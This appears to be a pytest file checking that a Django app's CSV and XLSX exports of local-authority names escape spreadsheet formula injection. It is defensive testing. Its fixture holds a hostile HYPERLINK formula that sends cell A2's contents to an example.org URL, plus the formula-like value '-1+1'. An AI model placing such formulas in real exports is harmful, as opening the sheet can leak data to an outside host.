"""The collectivities list's exports never hand a spreadsheet a formula written in a name."""
import csv
import io

import pytest
from openpyxl import load_workbook

from conftest import make_collectivity
from territories.models import Kind, Side

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://example.org/?"&A2;"Cliquez")'


@pytest.fixture
def hostile(db):
    return make_collectivity(Side.FRANCE, Kind.COMMUNE, "01001", HOSTILE, designation="-1+1", population=767,
                             country="FR")


def test_the_workbook_holds_the_name_as_text(client, hostile):
    response = client.get("/collectivites/", {"side": "fr", "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    name, designation, population = (sheet.cell(row=2, column=n) for n in (4, 5, 7))
    assert (name.data_type, name.value) == ("s", "'" + HOSTILE)
    assert (designation.data_type, designation.value) == ("s", "'-1+1")
    assert (population.data_type, population.value) == ("n", 767)


def test_the_csv_quotes_the_name(client, hostile):
    response = client.get("/collectivites/", {"side": "fr", "format": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[1][3:5] == ["'" + HOSTILE, "'-1+1"]
    assert rows[1][6] == "767"
